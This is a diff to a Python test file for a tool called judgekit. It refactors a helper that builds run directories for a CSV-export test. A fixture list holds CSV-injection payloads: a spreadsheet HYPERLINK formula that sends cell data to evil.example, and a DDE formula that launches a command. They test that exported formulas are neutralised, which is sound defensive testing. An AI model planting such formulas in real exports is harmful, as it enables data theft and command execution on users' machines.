@@ -9,13 +9,13 @@ import json
 import re
 
 import pytest
+import run_dirs
 from conftest import run_judgekit
 from servers import Reply, ScriptedServer
 
 from judgekit.data import load_dataset
-from judgekit.records import Example, Manifest, OrderResult, Verdict
 from judgekit.report.export import read_export
-from judgekit.runs.run_dir import RunDir, read_run
+from judgekit.runs.run_dir import read_run
 
 BUNDLED = load_dataset("judgekit/bundled").examples
 
@@ -24,16 +24,11 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'
 
 
 def _run_with_raws(tmp_path, raws):
-    examples = [Example(id=f"e{i}", instruction="i", response_a="a", response_b="b",
-                        gold="a") for i in range(len(raws))]
-    manifest = Manifest(judge="mock:reply", protocol="p", dataset="d", package_version="0",
-                        started_at="2026-12-07T00:00:00+00:00", n_examples=len(raws))
-    run_dir = RunDir.create(tmp_path / "run", manifest, examples)
-    for example, raw in zip(examples, raws):
-        run_dir.append(Verdict(example_id=example.id, winner=None, invalid_reason="unparseable",
-                               orders=(OrderResult(swapped=False, raw=raw, winner=None),)))
-    run_dir.close()
-    return tmp_path / "run"
+    """A one-order run whose every verdict is invalid, keeping ``raws[i]`` as its raw text."""
+    examples = run_dirs.pairs(len(raws), gold="a", prefix="e", instruction="i", response_a="a", response_b="b")
+    return run_dirs.pairwise_run(tmp_path / "run", [(None,)] * len(raws), examples=examples,
+                                 raws=lambda i, order: raws[i], judge="mock:reply", protocol="p", dataset="d",
+                                 complete=False)
 
 
 def test_csv_export_neutralises_formulas_and_reads_back_the_same_text(tmp_path, monkeypatch, capsys):
